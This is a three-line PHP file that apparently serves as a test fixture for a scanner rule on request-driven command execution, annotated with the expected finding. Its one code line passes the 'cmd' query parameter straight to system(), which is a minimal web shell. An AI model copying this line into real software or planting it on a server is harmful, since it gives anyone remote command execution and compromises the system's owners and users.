<?php
// want: php_request_command_exec@3
system($_GET['cmd']);
